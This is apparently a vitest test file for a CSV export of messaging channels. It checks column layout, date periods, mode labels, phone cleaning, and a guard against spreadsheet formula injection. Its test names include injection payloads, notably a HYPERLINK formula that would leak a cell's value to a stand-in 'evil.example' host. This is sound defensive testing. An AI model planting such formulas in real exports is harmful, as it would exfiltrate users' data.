import fc from 'fast-check';
import papaparse from 'papaparse';
import { describe, expect, test } from 'vitest';
import type { ChannelRow } from '#api/upstream/channel-mapper.ts';
import { csvColumns, csvHead, toCells, toCsv } from './csv-rows.ts';
import { neutralise } from './formula-guard.ts';

const now = new Date('2026-11-23T12:00:00.000Z');

function rowOf(fields: Partial<ChannelRow> = {}): ChannelRow {
  return {
    id: 'MANTIS-PF298',
    name: 'Bakery Rosa',
    name_folded: '',
    name_key: '',
    phone: '447700900123',
    project_id: null,
    mode: 'live',
    vendor_status: 'active',
    is_stopped: false,
    is_blocked: false,
    created_at: new Date('2026-10-23T23:59:59.999Z'),
    active_till: new Date('2026-12-22T00:00:00.000Z'),
    trial_till: null,
    proxy_host: null,
    proxy_port: null,
    fingerprint: null,
    link_state: null,
    link_phone: null,
    link_checked_at: null,
    link_tried_at: null,
    link_silent_at: null,
    phone_digits: '',
    base_status: 'active',
    ends_at: now,
    seen_at: now,
    missed_sweeps: 0,
    gone_at: null,
    ...fields,
  };
}

function parsed(rows: readonly ChannelRow[]): string[][] {
  const { data, errors } = papaparse.parse<string[]>(csvHead.slice(1) + toCsv(rows, now), {
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return data;
}

test('the head is a byte order mark and exactly the eight columns', () => {
  expect(csvHead).toBe(
    '\ufeffName,ID,Phone Number,Work Period,Status,Mode,Created Date,Billing Status\r\n',
  );
});

test('a channel is one line that ends with CRLF', () => {
  expect(toCsv([rowOf()], now)).toBe(
    'Bakery Rosa,MANTIS-PF298,447700900123,2026-10-23/2026-12-22,Active,Live,2026-10-23T23:59:59.999Z,Live\r\n',
  );
});

test('no channels are no lines', () => {
  expect(toCsv([], now)).toBe('');
});

describe('work period', () => {
  test.each([
    [{ created_at: null }, '../2026-12-22'],
    [{ active_till: null }, '2026-10-23/..'],
    [{ created_at: null, active_till: null }, ''],
  ])('with %j is %j', (fields, period) => {
    expect(toCells(rowOf(fields), now)[3]).toBe(period);
  });
});

test.each([
  ['trial', 'Trial', 'Trial'],
  ['live', 'Live', 'Live'],
  ['dev', 'Sandbox', 'Sandbox (dev)'],
  ['dev_archive', 'Archived sandbox', 'Sandbox (dev)'],
] as const)('mode %s is written %s, billed as %s', (mode, word, billing) => {
  const cells = toCells(rowOf({ mode }), now);

  expect([cells[5], cells[7]]).toEqual([word, billing]);
});

describe('a phone number', () => {
  test.each([
    ['447700900123', '447700900123'],
    ['+44 7700 900123', '447700900123'],
    ['=1+1', '11'],
    ['@SUM(A1)', '1'],
    [null, ''],
  ])('%j stays digits without an apostrophe', (phone, cell) => {
    expect(toCells(rowOf({ phone }), now)[2]).toBe(cell);
  });
});

describe('a name that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+1 Event Planners',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\tharmless',
    ' =1',
    '\u200b=1',
    '\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  ])('%j gets an apostrophe before it', (name) => {
    expect(parsed([rowOf({ name })])[1]?.[0]).toBe(`'${name}`);
  });

  test.each(['Bakery Rosa', 'a=b', "'=1", '1-2', 'e@mail', ''])('%j is none', (name) => {
    expect(parsed([rowOf({ name })])[1]?.[0]).toBe(name);
  });

  test('cannot begin a cell of its own where semicolons or tabs separate', () => {
    for (const name of ['a;=1+1', 'a\t=1+1']) {
      expect(toCsv([rowOf({ name })], now)).toMatch(/^"a[;\t]=1\+1",/);
    }
  });
});

test('whatever channels are called, reading the file back gives their cells', () => {
  const name = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }).map((text) => text.toWellFormed()),
    fc.string({ unit: fc.constantFrom('=', '+', '"', ',', '\r', '\n', ';', '\t', "'", ' ', 'a') }),
  );

  fc.assert(
    fc.property(fc.array(name, { minLength: 1, maxLength: 5 }), (names) => {
      const rows = names.map((each) => rowOf({ name: each }));

      const [header, ...lines] = parsed(rows);

      expect(header).toEqual([...csvColumns]);
      expect(lines).toEqual(rows.map((row) => toCells(row, now)));
      expect(lines.map((cells) => cells[0])).toEqual(names.map(neutralise));
    }),
  );
});
